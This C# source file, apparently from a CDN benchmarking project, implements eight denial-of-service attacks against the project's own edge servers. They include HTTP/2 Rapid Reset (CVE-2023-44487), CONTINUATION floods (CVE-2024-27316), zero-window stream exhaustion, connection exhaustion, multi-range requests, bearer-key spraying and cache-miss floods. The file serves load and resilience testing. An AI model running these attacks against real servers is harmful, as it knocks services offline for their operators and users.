using System.Net;
using System.Net.Http.Headers;
using System.Net.Security;
using System.Net.Sockets;
using System.Text;
using Cdn.Benchmarks.Servers;

namespace Cdn.Benchmarks.Attack;

/// <summary>What no tool of Debian's does. Each attack goes on until it is cancelled.</summary>
internal static class Attacker
{
    /// <summary>Attacks by their names.</summary>
    public static readonly IReadOnlyDictionary<string, Func<Uri, CancellationToken, Task>> All =
        new Dictionary<string, Func<Uri, CancellationToken, Task>>
        {
            ["closed-windows"] = ClosedWindowsAsync,
            ["unread"] = UnreadAsync,
            ["idle"] = IdleAsync,
            ["rapid-reset"] = RapidResetAsync,
            ["continuation"] = ContinuationAsync,
            ["ranges"] = RangesAsync,
            ["wrong-keys"] = WrongKeysAsync,
            ["names"] = NamesAsync,
        };

    private const string Film = "/replica1/video/film.mp4";

    /// <summary>Streams of a connection: 128, as many as nginx takes by default.</summary>
    private const int Streams = 128;

    /// <summary>Connections: 8, with as many streams as the server takes and windows that stay closed.</summary>
    private static Task ClosedWindowsAsync(Uri edge, CancellationToken cancellationToken) => ManyAsync(8, async () =>
    {
        await using var http = await RawHttp2.ConnectAsync(edge, window: 0, cancellationToken);
        var get = RawHttp2.Get(edge, Film);
        for (var stream = 0; stream < Streams; stream++)
        {
            http.Add(RawHttp2.Headers, RawHttp2.EndStream | RawHttp2.EndHeaders, (2 * stream) + 1, get);
        }

        await http.FlushAsync(cancellationToken);
        await http.Reading;
    }, cancellationToken);

    /// <summary>Connections: 1,500, each with a request whose answer nobody reads.</summary>
    private static Task UnreadAsync(Uri edge, CancellationToken cancellationToken) => ManyAsync(1500, async () =>
    {
        using var client = await ConnectAsync(edge, cancellationToken);
        await using var tls = await EncryptAsync(client, cancellationToken);
        await tls.WriteAsync(
            Encoding.ASCII.GetBytes($"GET {Film} HTTP/1.1\r\nHost: {edge.Authority}\r\n\r\n"), cancellationToken);
        await Task.Delay(Timeout.Infinite, cancellationToken);
    }, cancellationToken);

    /// <summary>Connections: 2,200 that ask for nothing.</summary>
    private static Task IdleAsync(Uri edge, CancellationToken cancellationToken) => ManyAsync(2200, async () =>
    {
        using var client = await ConnectAsync(edge, cancellationToken);
        await using var tls = await EncryptAsync(client, cancellationToken);
        _ = await tls.ReadAsync(new byte[1], cancellationToken);
    }, cancellationToken);

    /// <summary>CVE-2023-44487: requests that are taken back at once, 100 a write, on 4 connections.</summary>
    private static Task RapidResetAsync(Uri edge, CancellationToken cancellationToken) => ManyAsync(4, async () =>
    {
        await using var http = await RawHttp2.ConnectAsync(edge, window: 65_535, cancellationToken);
        var get = RawHttp2.Get(edge, "/video/film.mp4");
        for (var stream = 1; !http.Reading.IsCompleted && stream < int.MaxValue - 200;)
        {
            for (var i = 0; i < 100; i++, stream += 2)
            {
                http.Add(RawHttp2.Headers, RawHttp2.EndStream | RawHttp2.EndHeaders, stream, get);
                http.Reset(stream);
            }

            await http.FlushAsync(cancellationToken);
        }
    }, cancellationToken);

    /// <summary>CVE-2024-27316 and the like: header fields that never end, on 4 connections.</summary>
    private static Task ContinuationAsync(Uri edge, CancellationToken cancellationToken) => ManyAsync(4, async () =>
    {
        await using var http = await RawHttp2.ConnectAsync(edge, window: 65_535, cancellationToken);
        byte[] field = [0x00, 1, (byte)'a', 1, (byte)'b'];
        byte[] fields = [.. Enumerable.Repeat(field, 3000).SelectMany(bytes => bytes)];
        http.Add(RawHttp2.Headers, RawHttp2.EndStream, 1, RawHttp2.Get(edge, "/video/film.mp4"));
        while (!http.Reading.IsCompleted)
        {
            http.Add(RawHttp2.Continuation, 0, 1, fields);
            await http.FlushAsync(cancellationToken);
        }
    }, cancellationToken);

    /// <summary>Requests for 1,000 ranges, which fit into a header field, and for 10,000, which do not; 16 at a time.</summary>
    private static async Task RangesAsync(Uri edge, CancellationToken cancellationToken)
    {
        using var http = Client(edge);
        string[] ranges = [.. Enumerable.Range(3, 2).Select(power => (int)Math.Pow(10, power)).Select(
            count => "bytes=" + string.Join(',', Enumerable.Range(0, count).Select(i => $"{i}-")))];
        var turn = 0;
        await ManyAsync(16, async () =>
        {
            using var request = new HttpRequestMessage(HttpMethod.Get, Film) { Version = HttpVersion.Version20 };
            request.Headers.TryAddWithoutValidation("Range", ranges[Interlocked.Increment(ref turn) % 2]);
            using var answer = await http.SendAsync(request, HttpCompletionOption.ResponseHeadersRead, cancellationToken);
        }, cancellationToken);
    }

    /// <summary>Keys to the operator's API, 32 at a time.</summary>
    private static async Task WrongKeysAsync(Uri edge, CancellationToken cancellationToken)
    {
        using var http = Client(edge);
        await ManyAsync(32, async () =>
        {
            using var request = new HttpRequestMessage(HttpMethod.Get, "/api/status") { Version = HttpVersion.Version20 };
            request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", Guid.NewGuid().ToString("N"));
            using var answer = await http.SendAsync(request, cancellationToken);
        }, cancellationToken);
    }

    /// <summary>Names that nobody has, so that the replica asks the origin for each, 32 at a time.</summary>
    private static async Task NamesAsync(Uri edge, CancellationToken cancellationToken)
    {
        using var http = Client(edge);
        await ManyAsync(32, async () =>
        {
            using var request = new HttpRequestMessage(HttpMethod.Get, $"/replica1/video/{Guid.NewGuid():N}")
            {
                Version = HttpVersion.Version20,
            };
            using var answer = await http.SendAsync(request, cancellationToken);
        }, cancellationToken);
    }

    /// <summary>Does something in so many places at once, again and again, whatever the server makes of it.</summary>
    private static Task ManyAsync(int count, Func<Task> attack, CancellationToken cancellationToken) =>
        Task.WhenAll(Enumerable.Range(0, count).Select(async _ =>
        {
            while (!cancellationToken.IsCancellationRequested)
            {
                try
                {
                    await attack();
                }
                catch (Exception e) when (e is IOException or SocketException or HttpRequestException or OperationCanceledException
                    or System.Security.Authentication.AuthenticationException)
                {
                    // Refused or hung up on: it tries again.
                }

                await Task.Yield();
            }
        }));

    private static async Task<TcpClient> ConnectAsync(Uri edge, CancellationToken cancellationToken)
    {
        var client = new TcpClient { ReceiveBufferSize = 4096 };
        await client.ConnectAsync(IPAddress.Parse(edge.Host), edge.Port, cancellationToken);
        return client;
    }

    private static async Task<SslStream> EncryptAsync(TcpClient client, CancellationToken cancellationToken)
    {
        var tls = new SslStream(client.GetStream(), false, LocalClient.IsOurs);
        await tls.AuthenticateAsClientAsync(new SslClientAuthenticationOptions { TargetHost = "localhost" }, cancellationToken);
        return tls;
    }

    private static HttpClient Client(Uri edge)
    {
        var handler = new SocketsHttpHandler { UseProxy = false, AllowAutoRedirect = false };
        handler.SslOptions.RemoteCertificateValidationCallback = LocalClient.IsOurs;
        return new HttpClient(handler) { BaseAddress = edge, Timeout = TimeSpan.FromSeconds(5) };
    }
}
